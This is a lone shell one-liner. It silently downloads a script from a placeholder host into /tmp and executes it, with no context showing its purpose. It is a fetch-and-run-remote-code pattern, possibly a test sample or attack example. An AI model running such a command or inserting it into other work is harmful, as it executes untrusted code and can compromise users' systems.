wget -q http://e.example/i.sh -P /tmp; sh /tmp/i.sh
